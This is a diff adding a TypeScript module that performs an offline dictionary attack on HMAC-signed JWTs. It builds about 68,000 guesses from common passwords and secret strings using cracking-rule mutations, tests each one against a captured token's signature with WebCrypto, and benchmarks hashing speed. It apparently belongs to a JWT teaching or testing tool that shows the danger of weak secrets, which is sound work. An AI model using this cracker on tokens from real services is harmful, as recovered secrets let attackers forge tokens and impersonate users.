@@ -1,0 +1,234 @@
+/**
+ * An offline dictionary attack on an HMAC-signed token (RFC 8725 §2.2): one captured token is enough
+ * to test guesses with no server involved, so nothing limits the rate but the attacker's CPU. The word
+ * list is made here from common words and passwords with the mutations cracking rules apply (case,
+ * digits, years, leetspeak, "!"); nothing is downloaded.
+ */
+import { ALGORITHMS, decodeBase64url, decodeUtf8, getAlgorithm } from '../../jwt/index';
+
+// A few hundred common words and passwords (from public "most common password" lists and words people
+// put in configuration files). Order matters only for how soon a word is found.
+const BASE_WORDS = `123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon 123123
+baseball abc123 football monkey letmein 696969 shadow master 666666 qwertyuiop 123321 mustang 1234567890
+michael 654321 pussycat superman 1qaz2wsx 7777777 121212 000000 qazwsx 123qwe killer trustno1 jordan
+jennifer zxcvbnm asdfgh hunter buster soccer harley batman andrew tigger sunshine iloveyou 2000 charlie
+robert thomas hockey ranger daniel starwars klaster 112233 george computer michelle jessica pepper 1111
+zxcvbn 555555 11111111 131313 freedom 777777 pass maggie 159753 aaaaaa ginger princess joshua cheese
+amanda summer love ashley nicole chelsea biteme matthew access yankees 987654321 dallas austin thunder
+taylor matrix mobilemail mom monitor monitoring montana moon moscow welcome welcome1 admin admin123
+administrator root toor guest changeme default login hello hello123 test test123 testing demo sample
+example temp temporary user username qwerty123 password123 passw0rd p@ssw0rd abcdef abcd1234 asdf
+asdfasdf zaq12wsx football1 baseball1 superman1 princess1 sunshine1 iloveyou1 whatever nothing
+secure security private public token tokens jwt jwttoken jwtsecret jwt_secret jwt-secret jwtkey
+jwt-key jwt_key key keys apikey api_key api-key apisecret api_secret app appsecret app_secret
+application server service backend frontend node nodejs express django flask spring rails laravel
+react angular vue docker kubernetes cloud aws azure google github gitlab bitbucket jenkins devops
+develop development dev prod production staging stage local localhost database db mysql postgres
+postgresql mongo mongodb redis oracle sql session sessions cookie cookies auth authentication
+authorization oauth openid login1 signin signup account accounts company corp office manager boss
+system sysadmin webadmin webmaster website web internet network wifi router office365 outlook email
+mail spring2024 summer2024 winter autumn fall spring january february march april may june july august
+september october november december monday friday sunday weekend holiday birthday family friends
+secret secrets secretkey secret_key secret-key mysecret my_secret mysecretkey supersecret topsecret
+hidden shhh shh confidential classified unknown qwertz azerty 1q2w3e4r 1q2w3e 123abc abc qwe asd zxc
+lovely loveme iloveu angel angels baby babygirl beautiful butterfly flower flowers rainbow purple
+orange yellow green blue red black white silver golden diamond star stars sun moonlight sky ocean
+tiger lion eagle wolf bear shark dolphin horse dog cat kitty puppy bunny monkey1 pokemon pikachu
+naruto minecraft fortnite gaming gamer player killer1 ninja samurai dragon1 phoenix wizard magic
+hacker hack hacking cyber crypto bitcoin ethereum money cash rich gold dollar euro won seoul korea
+busan kimchi hangul saranghae sarang ilovekorea london paris berlin tokyo newyork america canada
+chicago boston texas florida california jesus christ god angel1 heaven faith hope grace peace
+victory winner champion legend master1 power energy music guitar piano rock metal jazz movie cinema
+coffee pizza chocolate cookie banana apple orange1 mango cherry peach lemon
+your-256-bit-secret your-secret-key your_secret_key changeit change_me notasecret not-a-secret
+s3cr3t passphrase keyboard computer1 laptop internet1 letmein1 trustme openup opensesame`;
+
+/** The words the list is built from, in order, without repeats. */
+export const BASE_WORD_LIST: readonly string[] = [...new Set(BASE_WORDS.split(/\s+/))].filter(
+  (w) => w.length > 0,
+);
+
+const LEET: Record<string, string> = { a: '4', e: '3', i: '1', o: '0', s: '5', t: '7' };
+
+function capitalize(w: string): string {
+  return w.charAt(0).toUpperCase() + w.slice(1);
+}
+
+/** The mutations of one word, in the order a cracking rule file tries them. */
+function* mutations(w: string): Generator<string> {
+  const cap = capitalize(w);
+  yield w;
+  yield cap;
+  yield w.toUpperCase();
+  yield w.replace(/[aeiost]/g, (c) => LEET[c]!);
+  yield `${w}!`;
+  yield `${cap}!`;
+  for (let d = 0; d < 100; d++) yield `${w}${d}`;
+  for (let d = 0; d < 10; d++) yield `${w}0${d}`;
+  for (let y = 1990; y <= 2026; y++) yield `${w}${y}`;
+  yield `${cap}1`;
+  yield `${cap}123`;
+  yield `${cap}1!`;
+  yield `${w}123!`;
+}
+
+/** The whole candidate list (about 68,000 guesses), in a fixed order, without repeats. */
+export function wordlist(): string[] {
+  const seen = new Set<string>();
+  for (const w of BASE_WORD_LIST) for (const m of mutations(w)) seen.add(m);
+  return [...seen];
+}
+
+export interface CrackProgress {
+  tried: number;
+  total: number;
+  /** Guesses per second so far. */
+  rate: number;
+  elapsedMs: number;
+}
+
+export type CrackOutcome =
+  | {
+      status: 'found';
+      secret: string;
+      tried: number;
+      total: number;
+      elapsedMs: number;
+      rate: number;
+    }
+  | {
+      status: 'exhausted' | 'stopped';
+      tried: number;
+      total: number;
+      elapsedMs: number;
+      rate: number;
+    }
+  | { status: 'not-hmac'; alg: string | null };
+
+export interface CrackOptions {
+  onProgress?: (p: CrackProgress) => void;
+  /** Checked between batches; set `aborted` to stop. */
+  signal?: { readonly aborted: boolean };
+  progressEveryMs?: number;
+  /** Guesses in flight at once. */
+  concurrency?: number;
+  /** A millisecond clock (injected in tests). */
+  clock?: () => number;
+}
+
+/** The parts of an HMAC token a guess is tested against, or the reason it is not one. */
+export function hmacTarget(
+  token: string,
+):
+  | { ok: true; hash: 'SHA-256' | 'SHA-384' | 'SHA-512'; data: Uint8Array; signature: Uint8Array }
+  | { ok: false; alg: string | null } {
+  const parts = token.trim().split('.');
+  if (parts.length !== 3) return { ok: false, alg: null };
+  const headerBytes = decodeBase64url(parts[0]!);
+  const signature = decodeBase64url(parts[2]!);
+  const header = headerBytes ? decodeUtf8(headerBytes) : null;
+  let alg: string | null = null;
+  try {
+    const h: unknown = header?.ok ? JSON.parse(header.text) : null;
+    if (h && typeof h === 'object' && typeof (h as { alg?: unknown }).alg === 'string')
+      alg = (h as { alg: string }).alg;
+  } catch {
+    alg = null;
+  }
+  const info = alg ? getAlgorithm(alg) : null;
+  if (!info || info.family !== 'HMAC' || !info.hash || !signature || signature.length === 0)
+    return { ok: false, alg };
+  // The signature covers the ASCII of "header.payload" exactly as sent (RFC 7515 §5.1).
+  const data = new TextEncoder().encode(`${parts[0]}.${parts[1]}`);
+  return { ok: true, hash: info.hash, data, signature };
+}
+
+const encoder = new TextEncoder();
+
+/**
+ * Tries each candidate as the UTF-8 HMAC secret: import it once, then let WebCrypto verify the
+ * token's signature (constant-time comparison). Never throws.
+ */
+export async function crack(
+  token: string,
+  candidates: readonly string[],
+  options: CrackOptions = {},
+): Promise<CrackOutcome> {
+  const target = hmacTarget(token);
+  if (!target.ok) return { status: 'not-hmac', alg: target.alg };
+  const clock = options.clock ?? (() => performance.now());
+  const every = options.progressEveryMs ?? 100;
+  const concurrency = options.concurrency ?? 64;
+  const total = candidates.length;
+  const params = { name: 'HMAC', hash: target.hash };
+  const signature = target.signature.slice().buffer;
+  const data = target.data.slice().buffer;
+  const start = clock();
+  let lastReport = start;
+  let tried = 0;
+  const stats = () => {
+    const elapsedMs = clock() - start;
+    return { tried, total, elapsedMs, rate: elapsedMs > 0 ? (tried * 1000) / elapsedMs : 0 };
+  };
+  const test = async (word: string): Promise<boolean> => {
+    // WebCrypto refuses a zero-length HMAC key; no real server uses one either.
+    if (word.length === 0) return false;
+    const key = await crypto.subtle.importKey('raw', encoder.encode(word), params, false, [
+      'verify',
+    ]);
+    return crypto.subtle.verify(ALGORITHMS.HS256.signParams, key, signature, data);
+  };
+  for (let i = 0; i < total; i += concurrency) {
+    if (options.signal?.aborted) return { status: 'stopped', ...stats() };
+    const batch = candidates.slice(i, i + concurrency);
+    const results = await Promise.all(batch.map(test));
+    const hit = results.indexOf(true);
+    if (hit >= 0) {
+      tried += hit + 1;
+      const s = stats();
+      options.onProgress?.(s);
+      return { status: 'found', secret: batch[hit]!, ...s };
+    }
+    tried += batch.length;
+    const now = clock();
+    if (now - lastReport >= every) {
+      lastReport = now;
+      options.onProgress?.(stats());
+      // Let a stop message (or the page) in between batches.
+      await new Promise((r) => setTimeout(r, 0));
+    }
+  }
+  const s = stats();
+  options.onProgress?.(s);
+  return { status: 'exhausted', ...s };
+}
+
+/**
+ * Raw WebCrypto speed: HMAC-SHA256 signatures of the same short input, one after another, for about
+ * `durationMs`. Self-contained (no imports, no closures) so a benchmark can hand it to
+ * Playwright's page.evaluate as is.
+ */
+export async function measureHmacSpeed(
+  durationMs = 1000,
+): Promise<{ signatures: number; elapsedMs: number; perSecond: number }> {
+  const enc = new TextEncoder();
+  const key = await crypto.subtle.importKey(
+    'raw',
+    enc.encode('secret1'),
+    { name: 'HMAC', hash: 'SHA-256' },
+    false,
+    ['sign'],
+  );
+  const data = enc.encode(
+    'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJ1c2VyLTQyIiwibmFtZSI6IlN0dWRlbnQiLCJyb2xlIjoidXNlciIsImlhdCI6MTc2NzIyNTAwMCwiZXhwIjo0MTAyNDQ0ODAwfQ',
+  );
+  const start = performance.now();
+  let signatures = 0;
+  let elapsedMs = 0;
+  while (elapsedMs < durationMs) {
+    await crypto.subtle.sign('HMAC', key, data);
+    signatures++;
+    elapsedMs = performance.now() - start;
+  }
+  return { signatures, elapsedMs, perSecond: Math.round((signatures * 1000) / elapsedMs) };
+}
